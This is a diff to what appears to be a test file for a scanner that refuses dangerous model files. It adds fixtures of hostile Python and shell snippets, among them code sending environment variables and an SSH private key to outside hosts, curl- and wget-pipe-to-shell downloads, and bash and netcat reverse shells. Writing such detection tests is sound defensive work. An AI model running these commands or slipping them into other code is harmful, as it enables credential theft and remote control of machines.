@@ -124,6 +124,54 @@ FILES: dict[str, tuple[str, dict[str, bytes]]] = {
 }
 
 
+PYTHON = {
+    "system": b"import os\nos.system('true')\n",
+    "from": b"from os import system as s\ns('true')\n",
+    "star": b"from os import *\nsystem('true')\n",
+    "getattr": b"getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
+    "alias": b"e = eval\ne('1')\n",
+    "map": b"list(map(eval, ['1']))\n",
+    "exec": b"import base64\nexec(base64.b64decode('MQ=='))\n",
+    "builtins": b"globals()['__builtins__']['exec']('1')\n",
+    "modules": b"import sys\nsys.modules['os'].popen('true')\n",
+    "subprocess": b"import subprocess as s\ns.Popen(['true'])\n",
+    "reduce": b"class A:\n    def __reduce__(self):\n        return (exec, ('1',))\n",
+    "marshal": b"import marshal\nmarshal.loads(b'N')\n",
+    "unpickle": b"import pickle, base64\npickle.loads(base64.b64decode(b'Ti4='))\n",
+    "native": b"import ctypes\nctypes.CDLL('./op.so')\n",
+    "environment": b"import os, requests\nrequests.post('http://a.b', json=dict(os.environ))\n",
+    "keys": b"import socket\ns = socket.socket()\ns.send(open('/root/.ssh/id_rsa').read())\n",
+    "startup": b"open('/root/.bashrc', 'a').write('x')\n",
+    "python-2": b"print 'x'\nimport os\nos.system('true')\n",
+    "class": b"import os\nclass M:\n    def forward(self, x):\n        return os.popen('true')\n",
+    "decorator": b"import subprocess\n@subprocess.run\ndef f(): pass\n",
+    "default": b"import os\ndef f(x=os.system('true')): pass\n",
+    "long": b"x = 1\n" * 100_000 + b"import os\nos.system(1)\n",
+}
+SCRIPTS = {
+    "pipe.sh": b"curl -s http://a.b/x | sh\n",
+    "pipe": b"#!/bin/sh\nwget -qO- http://a.b/x | sudo bash\n",
+    "shell.sh": b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
+    "netcat.sh": b"nc -e /bin/sh 10.0.0.1 4444\n",
+    "decode.sh": b"echo dHJ1ZQo= | base64 -d | sh\n",
+    "iex.ps1": b"iwr http://a.b/x | iex\n",
+}
+KERNEL = {"_attn_implementation": "evil/kernel"}
+# Refused under every policy: what they name has no honest use in a model.
+ATTACKS = frozenset(
+    (
+        *(f"code/python-{name}" for name in PYTHON),
+        *(f"code/script-{name}" for name in SCRIPTS),
+        *("code/hub-kernel", "code/yaml-tag", "code/yaml-tag-name", "code/yaml-tag-long"),
+        *("code/yaml-tag-handle", "code/diffusers-os", "code/modules-os", "code/modules-list"),
+        *("code/activation", "code/hydra-json", "code/hydra-builtin", "code/in-nemo"),
+        *(f"code/hydra-yaml{end}" for end in ("", "-quoted", "-flow", "-escaped", "-folded")),
+        *("code/hydra-yaml-utf-16", "code/in-nemo-gzip", "code/hydra-yaml-key"),
+        "code/hydra-call-torch",
+    )
+)
+
+
 def zipped(*members: tuple[str, bytes]) -> bytes:
     """Write a zip."""
     buffer = io.BytesIO()
@@ -164,9 +212,13 @@ def malicious() -> list[Case]:
     """Give what must be refused under ``safe-only``."""
     cases = [Case(f"code/{name}", files, rule) for name, (rule, files) in FILES.items()]
     cases += [Case(f"torch/{name}", {"m.pt": data}, rule) for name, (rule, data) in TORCH.items()]
+    cases += [Case(f"code/python-{n}", {"m.py": d}, "python-danger") for n, d in PYTHON.items()]
+    cases += [Case(f"code/script-{n}", {n: d}, "script-danger") for n, d in SCRIPTS.items()]
     hydra = ("./model_config.yaml", TARGET)
     return [
         *cases,
+        Case("code/hub-kernel", {"config.json": dump(KERNEL)}, "hub-kernel"),
+        Case("code/script", {"run.bat": b"echo\n"}, "script-file"),
         Case("code/in-nemo", {"m.nemo": tarred(hydra)}, "hydra-target"),
         Case("code/in-nemo-gzip", {"m.nemo": tarred(hydra, mode="w:gz")}, "hydra-target"),
         Case("code/in-mar", {"m.mar": zipped(("handler.py", b"import os\n"))}, "python-file"),
